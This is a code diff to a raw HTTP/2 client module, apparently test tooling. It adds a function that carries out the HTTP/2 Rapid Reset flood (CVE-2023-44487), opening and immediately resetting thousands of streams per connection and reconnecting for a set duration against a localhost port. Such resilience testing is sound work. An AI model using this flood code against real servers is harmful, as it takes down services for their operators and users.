@@ -4,7 +4,10 @@ from __future__ import annotations
 
 import socket
 import struct
+import threading
+import time
 from collections.abc import Iterable
+from contextlib import suppress
 
 DATA, HEADERS, RST_STREAM, SETTINGS, GOAWAY = 0, 1, 3, 4, 7
 END_STREAM, END_HEADERS, ACK = 1, 4, 1
@@ -47,3 +50,37 @@ def call(port: int, path: bytes, message: bytes, metadata: Iterable[tuple[bytes,
                 if kind == GOAWAY or (number == 1 and (kind == RST_STREAM or flags & END_STREAM)):
                     break
         return received
+
+
+def rapid_reset(port: int, path: bytes, seconds: float) -> int:
+    """Opens streams and resets each at once, as fast as possible; returns how many.
+
+    A connection that the server ends is followed by another: https://nvd.nist.gov/vuln/detail/CVE-2023-44487
+    """
+    headers, body, reset = call_headers(path), b"\0\0\0\0\0", struct.pack(">I", 8)
+    blocks = [
+        b"".join(
+            frame(HEADERS, END_HEADERS, stream, headers)
+            + frame(DATA, END_STREAM, stream, body)
+            + frame(RST_STREAM, 0, stream, reset)
+            for stream in range(first, first + 1000, 2)
+        )
+        for first in range(1, 200_000, 1000)
+    ]
+    sent, end = 0, time.monotonic() + seconds
+    while time.monotonic() < end:
+        with suppress(OSError), socket.create_connection(("127.0.0.1", port), timeout=10) as connection:
+            connection.sendall(PREFACE + frame(SETTINGS, ACK, 0, b""))
+            threading.Thread(target=_discard, args=(connection,), daemon=True).start()
+            for block in blocks:
+                if time.monotonic() > end:
+                    break
+                connection.sendall(block)
+                sent += 500
+    return sent
+
+
+def _discard(connection: socket.socket) -> None:
+    with suppress(OSError):
+        while connection.recv(2**20):
+            pass
